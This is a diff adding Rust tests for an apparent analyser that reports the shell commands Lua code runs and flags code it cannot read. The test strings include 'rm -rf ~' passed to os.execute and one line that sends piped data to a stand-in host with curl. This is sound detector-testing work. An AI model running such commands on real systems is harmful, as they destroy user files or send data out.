@@ -144,6 +144,11 @@ fn code_that_cannot_be_read_is_opaque_with_the_reason() {
     );
     assert_eq!(opaque("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
     assert_eq!(opaque("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
+    // Also where it is not called.
+    assert_eq!(
+        opaque("local t = setmetatable({}, {__index = function(_, k) return os[k] end}) t[v]('x')"),
+        Some(super::COMPUTED_NAME)
+    );
     assert_eq!(
         opaque("_G[arg[1]] = 1"),
         Some("the code sets a global whose name is computed at run time")
@@ -170,7 +175,7 @@ fn code_that_cannot_be_read_is_opaque_with_the_reason() {
         ["sh -c ?"]
     );
     assert_eq!(
-        effects("for _, c in ipairs({'a'}) do os.execute(c) end"),
+        effects("for _, c in ipairs(g()) do os.execute(c) end"),
         ["sh -c ?"]
     );
     assert_eq!(
@@ -342,4 +347,55 @@ fn a_file_not_named_read_and_a_shell_line_that_reaches_the_network_is_opaque() {
         opaque(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")),
         None
     );
+}
+
+#[test]
+fn a_loop_over_a_literal_table_is_read_once_per_item() {
+    for (code, want) in [
+        (
+            "local t = {'git status', 'rm -rf ~'} for _, c in ipairs(t) do os.execute(c) end",
+            &["sh -c git status", "sh -c rm -rf ~"][..],
+        ),
+        (
+            "local T = {lint = 'ls', wipe = 'rm -rf ~'} for k, cmd in pairs(T) do os.execute(cmd) end",
+            &["sh -c ls", "sh -c rm -rf ~"],
+        ),
+        (
+            "for _, d in ipairs({'build', 'dist'}) do local c = 'rm -rf ' .. d; os.execute(c) end",
+            &["sh -c rm -rf build", "sh -c rm -rf dist"],
+        ),
+    ] {
+        assert_eq!(effects(code), want, "{code}");
+    }
+}
+
+#[test]
+fn a_table_that_may_change_is_not_read_per_item() {
+    for code in [
+        "local t = {'ls'} table.insert(t, 'rm -rf ~') for _, c in ipairs(t) do os.execute(c) end",
+        "local t = {'ls'} t[2] = 'x' for _, c in ipairs(t) do os.execute(c) end",
+        // An item changed through a loop's variable, or handed to a function.
+        "local t = {{'ls'}} for _, a in ipairs(t) do a[1] = 'x' end for _, b in ipairs(t) do os.execute(b[1]) end",
+        "for _, a in ipairs({{'ls'}}) do a[1] = 'rm' os.execute(table.concat(a, ' ')) end",
+        "local t = {{'ls'}} for _, a in ipairs(t) do f(a) end for _, b in ipairs(t) do os.execute(table.concat(b, ' ')) end",
+        // The loop's variable assigned in its body.
+        "local t = {'ls'} for _, c in ipairs(t) do c = g() os.execute(c) end",
+        // Items a call or `...` spreads into, or not positional for `ipairs`.
+        "for _, c in ipairs({g()}) do os.execute(c) end",
+        "local t = {'ls', [2] = 'x'} for _, c in ipairs(t) do os.execute(c) end",
+        // `ipairs` rebound.
+        "local ipairs = g for _, c in ipairs({'ls'}) do os.execute(c) end",
+    ] {
+        assert_eq!(effects(code), ["sh -c ?"], "{code}");
+    }
+}
+
+#[test]
+fn code_that_can_rebind_names_makes_none_known() {
+    for code in [
+        "T = {'ls'} load('T[1] = 1')() os.execute(T[1])",
+        "T = 'ls' local G = _G G['T'] = 'x' os.execute(T)",
+    ] {
+        assert_eq!(effects(code), ["sh -c ?"], "{code}");
+    }
 }
